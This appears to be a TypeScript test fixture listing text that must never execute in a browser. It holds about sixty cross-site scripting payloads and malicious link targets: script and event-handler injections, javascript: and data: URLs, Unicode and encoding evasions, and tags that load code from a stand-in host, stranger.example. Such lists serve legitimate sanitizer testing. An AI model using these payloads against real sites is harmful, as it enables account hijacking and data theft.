/**
 * Texts that must never run code in a reader's browser (docs/rules/guard-rails.md S-16).
 * Each would run the deed, a JavaScript statement, if it were interpreted as anything but text.
 */
export const hostileTexts = (deed: string): readonly string[] => [
  `<script>${deed}</script>`, `</script><script>${deed}</script>`, '<script src=//stranger.example></script>', `<img src=x onerror=${deed}>`, `<svg onload=${deed}>`, `<svg><script>${deed}</script></svg>`, `<svg><animate onbegin=${deed} attributeName=x>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${deed}>`, `<math href="javascript:${deed}">x</math>`, `<iframe srcdoc="<script>parent.${deed};${deed}</script>">`, `<object data="javascript:${deed}">`, `<embed src="data:text/html,<script>${deed}</script>">`,
  `<a href="javascript:${deed}">x</a>`, `<a href="java\tscript:${deed}">x</a>`, '<a href="data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg==">x</a>', `<form action="javascript:${deed}"><button>x`, `<button formaction=javascript:${deed}>x`, `<input autofocus onfocus=${deed}>`,
  `<details open ontoggle=${deed}>`, `<video><source onerror=${deed}></video>`, `<body onload=${deed}>`, `<marquee onstart=${deed}>`, `<style>@import"javascript:${deed}"</style>`, '<link rel=stylesheet href=//stranger.example>', `<meta http-equiv=refresh content="0;url=javascript:${deed}">`, '<base href=//stranger.example>',
  `<template><img src=x onerror=${deed}></template>`, `</p></main><script>${deed}</script>`, `<!--<img src="--><img src=x onerror=${deed}//">`, `]]><script>${deed}</script>`, `**<b onmouseover=${deed}>x</b>**`, `**</b><script>${deed}</script>**`, `{<script>${deed}</script>}`, `{constructor}<script>${deed}</script>`,
  `&lt;script&gt;${deed}&lt;/script&gt;`, `\uFF1Cscript\uFF1E${deed}\uFF1C/script\uFF1E`, `<scr\u0131pt>${deed}</scr\u0131pt>`, `\u202E<script>${deed}</script>`, `\u2028</script><script>${deed}</script>`, `"><script>${deed}</script>`, `'><script>${deed}</script>`, `\`\${${deed}}\`</script>`,
  `"><svg onload=${deed}>`, `'><iframe srcdoc='<script>parent.${deed}</script>'>`, `</title><script>${deed}</script>`, `" onmouseover="${deed}`, `{__proto__}<script>${deed}</script>`, `\u2028${deed}\u2029`,
]

/** Malicious link targets in content. */
export const hostileAddresses = (deed: string): readonly string[] => [
  `javascript:${deed}`, `JaVaScRiPt:${deed}`, `java\tscript:${deed}`, ` javascript:${deed}`, `\u0001javascript:${deed}`, `data:text/html,<script>${deed}</script>`, 'data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg==', `vbscript:${deed}`,
  '//stranger.example', '/\\stranger.example', '/\t/stranger.example', '\\\\stranger.example', 'https://stranger.example', 'blob:https://stranger.example/x', `"onmouseover="${deed}`,
]
